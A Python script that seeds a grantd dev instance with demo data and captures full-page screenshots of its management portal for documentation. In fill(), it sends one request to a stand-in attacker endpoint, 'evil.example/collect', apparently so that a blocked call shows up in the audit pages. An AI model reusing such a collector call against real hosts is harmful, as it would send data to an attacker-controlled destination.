"""Makes the pictures of `docs/portal/` anew: every page of the portal on `grantd dev`, with data as a team would have it.

    python conformance/pictures.py GRANTD [DIRECTORY]

GRANTD is the program. It needs what the browser tests need. Calls are made through the official client; the figures of hours that are over
are written into the database, because nobody waits for a day.
"""

from __future__ import annotations

import asyncio
import json
import math
import os
import signal
import sqlite3
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

from alter_sdk import App, AlterSDKError
from playwright.async_api import Page

from harness.browser import PHONE, Browsing
from harness.palette import squeeze_file
from harness.world import environment

DESKTOP = {"viewport": {"width": 1440, "height": 900}}
HOUR_MS = 3_600_000

SECRETS = [
    ("stripe", "Stripe payouts", {"value": "sk_live_example"}),
    ("openai", "OpenAI", {"value": "sk-example"}),
    ("github", "GitHub deploys of the storefront and of everything behind it", {"value": "ghp_example"}),
]


class Api:
    """The management API of a `dev`."""

    def __init__(self, dev: dict) -> None:
        self.base, self.pat = dev["base_url"], dev["pat"]

    def call(self, method: str, path: str, body: dict | None = None) -> dict:
        data = None if body is None else json.dumps(body).encode()
        head = {"Authorization": f"Bearer {self.pat}", "Content-Type": "application/json"}
        request = urllib.request.Request(f"{self.base}/api/v1/{path}", data, head, method=method)
        with urllib.request.urlopen(request) as answer:
            return json.load(answer)


async def fill(dev: dict, api: Api) -> None:
    """Names, secrets, members and calls."""
    app = dev["app_id"]
    api.call("PATCH", "organization", {"name": "Halden Labs"})
    api.call("PATCH", f"apps/{app}", {"name": "Fernway Travel", "website_url": "https://fernway.example"})
    for name in ("Ledgerline", "Night desk", "A very long name of an app that nobody wants to read to its end"):
        api.call("POST", "apps", {"name": name})
    for name, role in (("ida", "admin"), ("jonas", "developer"), ("a.rather.long.name", "viewer")):
        operator = api.call("POST", "operators", {"email": f"{name}@halden.example", "role": role})
    api.call("PATCH", f"operators/{operator['id']}", {"disabled": True})
    for name in ("CI", "Nightly export"):
        api.call("POST", "tokens", {"name": name, "role": "viewer", "expires_in_seconds": 30 * 86_400})
    for template, name, more in SECRETS:
        try:
            api.call("POST", f"apps/{app}/managed-secrets", {"template": template, "name": name, **more})
        except urllib.error.HTTPError as error:
            sys.exit(f"{template}: {error.read().decode()}")
    api.call("POST", f"apps/{app}/keys", {"name": "storefront", "expires_in_seconds": 90 * 86_400})
    with environment(ALTER_BASE_URL=dev["base_url"]):
        vault = App(api_key=dev["api_key"])
    async with vault as client:
        for number in range(6):
            await client.request(
                "GET",
                f"{dev['demo_url'].rstrip('/')}/trips/{number}",
                grant_id=dev["grant_id"],
                context={"user_id": f"u-{number % 2 + 1}"},
            )
        for url in ("https://evil.example/collect", f"{dev['demo_url'].rstrip('/')}/trips/7"):
            try:
                await client.request("GET", url, grant_id=dev["grant_id"] if "evil" in url else dev["app_id"])
            except AlterSDKError:
                pass


def fill_hours(dev: dict, hours: int = 30 * 24) -> None:
    """Figures of hours that are over, of a team that sleeps."""
    app = bytes.fromhex(dev["app_id"].replace("-", ""))
    now = int(time.time() * 1000) // HOUR_MS * HOUR_MS
    database = sqlite3.connect(Path(dev["data_dir"]) / "grantd.db", timeout=30)
    organization = database.execute("SELECT id FROM organizations").fetchone()[0]
    rows = []
    for back in range(hours):
        at = now - back * HOUR_MS
        of_day = (at // HOUR_MS) % 24
        busy = 0.15 + max(0.0, math.sin((of_day - 6) / 12 * math.pi)) * (0.35 if (at // HOUR_MS // 24) % 7 in (2, 3) else 1)
        calls = int(2_600 * busy + 31 * (back * 7919 % 13))
        burst = 9 if back in (9, 10, 300) else 1
        counts = {
            "allowed": calls,
            "refused.blocked_destination": calls // 130 * burst,
            "refused.grant_expired": calls // 410,
            "refused.grant_revoked": calls // 640,
            "refused.tenant_mismatch": calls // 900,
            "refused.token_endpoint_failed": calls // 260 if burst > 1 else calls // 3_000,
            "refreshed": calls // 24,
            "refresh_failed": calls // 190 if burst > 1 else 0,
        }
        slow = 4 if burst > 1 else 0
        for bucket, share in ((18, 6), (19, 22), (20, 38), (21, 20), (23, 9), (26 + slow, 4), (29 + slow, 1)):
            counts[f"took.{bucket}"] = calls * share // 100
        rows += [(owner, at, what, times) for owner in (app, organization) for what, times in counts.items() if times]
    with database:
        database.executemany("INSERT OR REPLACE INTO hourly (app_id, hour_ms, what, times) VALUES (?, ?, ?, ?)", rows)
    database.close()


def pages(dev: dict, api: Api) -> dict[str, str]:
    app = f"/apps/{dev['app_id']}"
    events = api.call("GET", f"apps/{dev['app_id']}/audit/events?kind=token.denied&limit=1")["items"]
    operators = api.call("GET", "operators?search=jonas")["items"]
    secret = api.call("GET", f"apps/{dev['app_id']}/managed-secrets?search=stripe")["items"][0]["id"]
    token = api.call("GET", "tokens")["items"][0]["id"]
    return {
        "overview": "/overview",
        "overview-month": "/overview?range=30d",
        "apps": "/apps",
        "app-new": "/apps/new",
        "app": app,
        "app-overview": f"{app}/overview",
        "start": f"{app}/start",
        "keys": f"{app}/keys",
        "key-new": f"{app}/keys/new",
        "secrets": f"{app}/secrets",
        "secret-catalogue": f"{app}/secrets/new",
        "secret-new": f"{app}/secrets/new/stripe",
        "secret": f"{app}/secrets/{secret}",
        "grants": f"{app}/grants",
        "grant": f"{app}/grants/{dev['grant_id']}",
        "grant-revoke": f"{app}/grants/{dev['grant_id']}/revoke",
        "audit": f"{app}/audit",
        "audit-export": f"{app}/audit/export",
        "event": f"{app}/audit/{events[0]['id']}",
        "app-settings": f"{app}/settings",
        "members": "/members",
        "member": f"/members/{operators[0]['id']}",
        "member-new": "/members/new",
        "tokens": "/tokens",
        "token-new": "/tokens/new",
        "token-revoke": f"/tokens/{token}/revoke",
        "organization-audit": "/audit",
        "settings": "/settings",
        "sessions": "/sessions",
    }


async def take(page: Page, path: Path) -> None:
    await page.screenshot(path=path, full_page=True, animations="disabled")


async def look(browsing: Browsing, dev: dict, directory: Path) -> None:
    api = Api(dev)
    await fill(dev, api)
    fill_hours(dev)
    # The audit's index, and what is counted of it, follow within a second.
    await asyncio.sleep(2)
    # Which picture is in which theme and on which screen: each page once, and the busiest ones on a phone and in the dark.
    dark = {"overview-month", "app-overview", "event", "keys", "secret-catalogue", "member", "app-settings"}
    on_phone = {"overview", "apps", "grants", "audit", "event", "app-settings", "members"}
    everything = pages(dev, api)
    desktop = await browsing.person(DESKTOP, reduced_motion="reduce")
    page = await desktop.new_page()
    await page.goto(dev["portal_url"])
    await take(page, directory / "sign-in.png")
    await page.goto(dev["login_url"])
    await take(page, directory / "sign-in-link.png")
    await page.get_by_role("button", name="Sign in").click()
    await page.get_by_role("heading", name="Apps", level=1).wait_for()
    state = await desktop.storage_state()
    phone = await (await browsing.person({**PHONE, "device_scale_factor": 1}, storage_state=state, reduced_motion="reduce")).new_page()
    for name, path in everything.items():
        await page.emulate_media(color_scheme="dark" if name in dark else "light")
        await page.goto(dev["portal_url"] + path)
        await take(page, directory / f"{name}.png")
        if name in on_phone:
            await phone.goto(dev["portal_url"] + path)
            await take(phone, directory / f"{name}-phone.png")


def main() -> None:
    binary = sys.argv[1]
    directory = Path(sys.argv[2] if len(sys.argv) > 2 else Path(__file__).parent.parent / "docs" / "portal")
    directory.mkdir(parents=True, exist_ok=True)
    for old in directory.glob("*.png"):
        old.unlink()
    with tempfile.TemporaryDirectory() as home:
        command = [binary, "dev", "--data-dir", f"{home}/data", "--listen", "127.0.0.1:0", "--output", "json"]
        clean = {name: value for name, value in os.environ.items() if not name.startswith("GRANTD_")}
        process = subprocess.Popen(command, env=clean, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        browsing = None
        try:
            dev = json.loads(process.stdout.readline())
            browsing = Browsing()
            browsing.run(look(browsing, dev, directory))
        finally:
            if browsing:
                browsing.close()
            process.send_signal(signal.SIGINT)
            process.wait(timeout=30)
    for picture in directory.glob("*.png"):
        squeeze_file(picture)
    size = sum(picture.stat().st_size for picture in directory.glob("*.png"))
    print(f"{directory}: {size / 1e6:.1f} MB")


if __name__ == "__main__":
    main()
